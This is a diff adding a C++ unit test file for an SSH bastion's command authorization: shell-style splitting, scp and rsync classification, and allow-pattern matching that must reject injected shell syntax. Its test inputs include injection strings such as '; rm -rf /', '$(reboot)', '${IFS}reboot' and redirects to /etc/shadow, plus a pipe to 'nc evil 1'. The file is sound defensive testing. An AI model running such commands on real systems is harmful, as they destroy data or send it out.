@@ -1,0 +1,297 @@
+// Tests for authz/operation.cc: the word splitter, exec classification (scp, rsync), glob matching
+// and catalogue exec patterns — above all, that no shell trick slips past a pattern.
+#include "authz/operation.h"
+
+#include <gtest/gtest.h>
+
+#include <string>
+#include <vector>
+
+namespace bastion::authz {
+namespace {
+
+using Words = std::vector<std::string>;
+
+Words split_ok(std::string_view line) {
+  auto r = split_command_line(line);
+  EXPECT_TRUE(r.ok()) << "'" << line << "': " << (r.ok() ? "" : r.error().message);
+  return r.ok() ? *r : Words{};
+}
+
+// matches splits the command as the gateway would, then asks the pattern.
+bool matches(std::string_view pattern, std::string_view command) {
+  auto argv = split_command_line(command);
+  return argv.ok() && exec_pattern_matches(pattern, *argv);
+}
+
+struct SplitCase {
+  std::string line;
+  Words words;
+};
+
+TEST(SplitCommandLine, SplitsLikeAShellAndIsolatesMetacharacters) {
+  const SplitCase cases[] = {
+      {"", {}},
+      {"   \t ", {}},
+      {"ls -l /tmp", {"ls", "-l", "/tmp"}},
+      {"  a   b\tc  ", {"a", "b", "c"}},
+      {"echo 'a b'", {"echo", "a b"}},
+      {"echo \"a b\"", {"echo", "a b"}},
+      {"echo a\\ b", {"echo", "a b"}},
+      {"echo ''", {"echo", ""}},
+      {"echo \"\"", {"echo", ""}},
+      {"echo a''b", {"echo", "ab"}},
+      {"echo 'it'\\''s'", {"echo", "it's"}},
+      {"echo \"a\\\"b\"", {"echo", "a\"b"}},
+      {"echo \"a\\nb\"", {"echo", "a\\nb"}},  // only $ ` " \ are escapable inside "…"
+      {"echo \"a\\\\b\"", {"echo", "a\\b"}},
+      {"echo 'a\\'", {"echo", "a\\"}},
+      {"echo '$(x)' '`x`' ';|&'", {"echo", "$(x)", "`x`", ";|&"}},
+      {"echo \"\\$x\"", {"echo", "$x"}},
+      {"echo a\\;b", {"echo", "a;b"}},
+      {"a;b", {"a", ";", "b"}},
+      {"a ; b", {"a", ";", "b"}},
+      {"a&&b", {"a", "&", "&", "b"}},
+      {"a||b", {"a", "|", "|", "b"}},
+      {"a>b<c", {"a", ">", "b", "<", "c"}},
+      {"(a)", {"(", "a", ")"}},
+      {"$(reboot)", {"$", "(", "reboot", ")"}},
+      {"`reboot`", {"`", "reboot", "`"}},
+      {"\"$(reboot)\"", {"$", "(reboot)"}},
+      {"\"`reboot`\"", {"`", "reboot", "`"}},
+      {"\"a$b\"", {"a", "$", "b"}},
+      {"\"$\"", {"$"}},
+      {"x\"$\"y", {"x", "$", "y"}},
+      {"x${IFS}y", {"x", "$", "{IFS}y"}},
+      {"'a';b", {"a", ";", "b"}},
+      {"ls caf\xc3\xa9", {"ls", "caf\xc3\xa9"}},
+      {"a\t\tb", {"a", "b"}},
+  };
+  for (const auto& c : cases) EXPECT_EQ(split_ok(c.line), c.words) << "line: " << c.line;
+}
+
+TEST(SplitCommandLine, RefusesUnterminatedQuotesAndEscapes) {
+  for (const char* line : {"'abc", "\"abc", "abc\\", "echo 'a\"", "echo \"a'", "echo \"a\\\""}) {
+    EXPECT_FALSE(split_command_line(line).ok()) << line;
+  }
+}
+
+TEST(SplitCommandLine, RefusesControlBytes) {
+  const std::string lines[] = {
+      "a\nb", "a\rb", std::string("a\0b", 3), "\x1b[31mred", "a\x7f", "'a\nb'", "\"a\x01\"", "a\\\nb",
+  };
+  for (const auto& line : lines) {
+    auto r = split_command_line(line);
+    ASSERT_FALSE(r.ok()) << line;
+    EXPECT_NE(r.error().message.find("control character"), std::string::npos);
+  }
+}
+
+TEST(SplitCommandLine, RefusesLinesOver64KiB) {
+  const std::string at_limit(64 * 1024, 'a');
+  EXPECT_TRUE(split_command_line(at_limit).ok());
+  auto r = split_command_line(at_limit + "a");
+  ASSERT_FALSE(r.ok());
+  EXPECT_NE(r.error().message.find("64 KiB"), std::string::npos);
+}
+
+struct ClassifyCase {
+  std::string line;
+  OpType type;
+  TransferDirection direction;
+};
+
+TEST(ClassifyExec, RecognisesScpAndRsyncServerSides) {
+  using D = TransferDirection;
+  const ClassifyCase cases[] = {
+      {"scp -t /tmp/x", OpType::Scp, D::Upload},
+      {"scp -f /etc/hosts", OpType::Scp, D::Download},
+      {"scp -v -r -p -d -t -- /tmp", OpType::Scp, D::Upload},
+      {"scp -t -- /tmp/x", OpType::Scp, D::Upload},
+      {"scp -prt /tmp", OpType::Scp, D::Upload},
+      {"scp -r -f /srv/a /srv/b", OpType::Scp, D::Download},
+      {"scp -f -- -weird-name", OpType::Scp, D::Download},
+      {"scp -t '/tmp/with space'", OpType::Scp, D::Upload},
+      {"rsync --server -vlogDtpre.iLsfxC . /tmp/", OpType::Rsync, D::Upload},
+      {"rsync --server --sender -vlogDtpre.iLsfxC . /etc/", OpType::Rsync, D::Download},
+      {"rsync --server -e.LsfxC --sender . x", OpType::Rsync, D::Download},
+      {"rsync --server -r . --sender", OpType::Rsync, D::Upload},  // a path named --sender
+  };
+  for (const auto& c : cases) {
+    auto op = classify_exec(c.line);
+    ASSERT_TRUE(op.ok()) << c.line;
+    EXPECT_EQ(op->type, c.type) << c.line;
+    EXPECT_EQ(op->direction, c.direction) << c.line;
+    EXPECT_EQ(op->command, c.line);
+  }
+}
+
+TEST(ClassifyExec, AnythingElseIsAPlainExec) {
+  const char* const lines[] = {
+      "systemctl status nginx",
+      "scp",
+      "scp -t",                         // no destination
+      "scp -t a b",                     // the sink takes exactly one destination
+      "scp -tf x",                      // both directions at once
+      "scp -x -t /tmp",                 // an option the server side does not take
+      "scp -q -t /tmp",
+      "scp a b",                        // scp run as a client on the server
+      "/usr/bin/scp -t /tmp",           // only the bare name, as OpenSSH sends it
+      "scp -t /tmp; reboot",            // a transfer chained with a command
+      "scp -t /tmp && reboot",
+      "scp -t \"$(reboot)\"",
+      "scp -f `reboot`",
+      "scp -t /tmp > /dev/null",
+      "rsync --server",
+      "rsync --server .",
+      "rsync --server --sender -r /etc",  // no "." before the paths
+      "rsync -av a b",
+      "rsync --server --sender . /x | nc evil 1",
+      "rsync --server . /x; reboot",
+      "sftp-server",
+  };
+  for (const char* line : lines) {
+    auto op = classify_exec(line);
+    ASSERT_TRUE(op.ok()) << line;
+    EXPECT_EQ(op->type, OpType::Exec) << line;
+    EXPECT_EQ(op->direction, TransferDirection::None) << line;
+    EXPECT_EQ(op->command, line);
+  }
+}
+
+TEST(ClassifyExec, KeepsTheRawCommandAndItsWords) {
+  auto op = classify_exec("journalctl  -u 'nginx.service'");
+  ASSERT_TRUE(op.ok());
+  EXPECT_EQ(op->command, "journalctl  -u 'nginx.service'");
+  EXPECT_EQ(op->argv, (Words{"journalctl", "-u", "nginx.service"}));
+}
+
+TEST(ClassifyExec, RefusesEmptyAndMalformedLines) {
+  for (const char* line : {"", "   ", "'x", "a\nb"}) {
+    auto op = classify_exec(line);
+    EXPECT_FALSE(op.ok()) << line;
+    if (!op.ok()) {
+      EXPECT_FALSE(op.error().message.empty());
+    }
+  }
+}
+
+TEST(GlobMatch, StarAndQuestionMarkOnly) {
+  struct G { const char* pattern; const char* text; bool match; };
+  const G cases[] = {
+      {"", "", true},          {"", "a", false},           {"*", "", true},
+      {"?", "", false},        {"?", "a", true},           {"??", "a", false},
+      {"a*", "a", true},       {"*a", "ba", true},         {"*a", "ab", false},
+      {"a?c", "abc", true},    {"a?c", "ac", false},       {"**", "x", true},
+      {"*.log", "app.log", true}, {"*.log", "app.log.1", false},
+      {"a*b*c", "aXbYc", true},   {"a*b*c", "aXbY", false}, {"a*b*c", "abcbc", true},
+      {"nginx", "NGINX", false},  {"[a]", "a", false},       {"[a]", "[a]", true},
+      {"*/*", "a/b/c", true},     {"a\\*", "a\\xyz", true},  {"*ab", "aab", true},
+      {"*aab", "aaab", true},     {"a*", "", false},          {"*?*", "", false},
+  };
+  for (const auto& c : cases) {
+    EXPECT_EQ(glob_match(c.pattern, c.text), c.match) << "'" << c.pattern << "' vs '" << c.text << "'";
+  }
+}
+
+TEST(GlobMatch, PathologicalInputsStayLinearInPractice) {
+  // A backtracking matcher takes exponential time on these; the two-cursor one only revisits the
+  // text after the most recent '*', so each finishes in well under a second.
+  const std::string text(100000, 'a');
+  std::string many_stars;
+  for (int i = 0; i < 20; ++i) many_stars += "a*";
+  EXPECT_FALSE(glob_match(many_stars + "b", text));
+  EXPECT_TRUE(glob_match(many_stars + "a", text));
+  EXPECT_FALSE(glob_match(std::string(5000, '*') + "b", text));
+  EXPECT_TRUE(glob_match(std::string(5000, '*'), text));
+  EXPECT_FALSE(glob_match(std::string(1000, '?'), std::string(999, 'a')));
+}
+
+struct PatternCase {
+  const char* pattern;
+  const char* command;
+  bool match;
+};
+
+TEST(ExecPatternMatches, FollowsTheDocumentedRules) {
+  const PatternCase cases[] = {
+      {"systemctl restart nginx", "systemctl restart nginx", true},
+      {"systemctl restart nginx", "systemctl  restart\tnginx", true},
+      {"systemctl restart nginx", "systemctl restart 'nginx'", true},
+      {"systemctl restart nginx", "systemctl restart nginx now", false},
+      {"systemctl restart nginx", "systemctl restart", false},
+      {"systemctl status *", "systemctl status nginx", true},
+      {"systemctl status *", "systemctl status", true},
+      {"systemctl status *", "systemctl status nginx sshd", true},
+      {"systemctl status *", "systemctl status 'nginx;reboot'", true},  // one quoted, harmless word
+      {"systemctl status *", "systemctl restart nginx", false},
+      {"journalctl -u *.service", "journalctl -u nginx.service", true},
+      {"journalctl -u *.service", "journalctl -u nginx.socket", false},
+      {"journalctl -u *.service", "journalctl -u nginx.service -f", false},
+      {"echo 'hello world'", "echo \"hello world\"", true},
+      {"echo 'hello world'", "echo hello world", false},
+      {"cat /var/log/syslog | grep error", "cat /var/log/syslog | grep error", true},
+      {"*", "uptime", true},
+      {"*", "", true},
+      {"ls", "ls", true},
+      {"ls", "ls -la", false},
+      {"", "ls", false},
+      {"'unterminated", "ls", false},
+      {"cmd * x", "cmd a x", true},
+      {"cmd ? x", "cmd a x", true},
+  };
+  for (const auto& c : cases) {
+    EXPECT_EQ(matches(c.pattern, c.command), c.match) << "pattern '" << c.pattern << "' command '" << c.command << "'";
+  }
+}
+
+TEST(ExecPatternMatches, NoShellTrickMatchesAWildcardPattern) {
+  const char* const patterns[] = {
+      "systemctl status *", "systemctl status * *", "systemctl status ? ?", "systemctl status ?",
+      "systemctl * *",      "systemctl * ? *",       "*",
+  };
+  const char* const tails[] = {
+      ";reboot",    "; reboot",      "&&reboot",     "& reboot",   "|reboot",      "|| reboot",
+      "`reboot`",   "$(reboot)",     "\"$(reboot)\"", "\"`reboot`\"", "'x'$(reboot)", ">/etc/passwd",
+      "</etc/shadow", "$IFS",        "${IFS}reboot",  "\"${IFS}\"",   "(reboot)",     "x;",
+      "x &",        "\"a$(reboot)b\"", "\\\"`reboot`\\\"",
+  };
+  for (const char* tail : tails) {
+    const std::string command = std::string("systemctl status nginx ") + tail;
+    const std::string glued = std::string("systemctl status nginx") + tail;
+    for (const char* pattern : patterns) {
+      EXPECT_FALSE(matches(pattern, command)) << "pattern '" << pattern << "' command '" << command << "'";
+      EXPECT_FALSE(matches(pattern, glued)) << "pattern '" << pattern << "' command '" << glued << "'";
+    }
+  }
+}
+
+TEST(ExecPatternMatches, RefusesTheClassicInjections) {
+  EXPECT_FALSE(matches("systemctl restart nginx", "systemctl restart nginx; rm -rf /"));
+  EXPECT_FALSE(matches("systemctl status *", "systemctl status nginx; reboot"));
+  EXPECT_FALSE(matches("systemctl status *", "systemctl status $(reboot)"));
+  EXPECT_FALSE(matches("systemctl status *", "systemctl status `reboot`"));
+  EXPECT_FALSE(matches("systemctl status *", "systemctl status \"`reboot`\""));
+  EXPECT_FALSE(matches("cmd * x", "cmd ; x"));  // a mid-pattern * never stands for a separator
+  EXPECT_FALSE(matches("cmd ? x", "cmd ; x"));
+  EXPECT_TRUE(matches("cmd ; x", "cmd ; x"));   // unless the officer wrote it literally
+}
+
+TEST(ExecPatternMatches, WorksOnArgvDirectly) {
+  EXPECT_TRUE(exec_pattern_matches("systemctl status *", {"systemctl", "status", "nginx"}));
+  EXPECT_FALSE(exec_pattern_matches("systemctl status *", {"systemctl", "status", "nginx", ";", "reboot"}));
+  EXPECT_FALSE(exec_pattern_matches("systemctl status *", {}));
+  EXPECT_TRUE(exec_pattern_matches("*", {}));
+}
+
+TEST(Operation, ForwardCarriesHostAndPort) {
+  const Operation op = Operation::forward("db.internal", 5432);
+  EXPECT_EQ(op.type, OpType::Forward);
+  EXPECT_EQ(op.forward_host, "db.internal");
+  EXPECT_EQ(op.forward_port, 5432);
+  EXPECT_EQ(Operation::sftp().type, OpType::Sftp);
+  EXPECT_EQ(Operation::shell().type, OpType::Shell);
+}
+
+}  // namespace
+}  // namespace bastion::authz
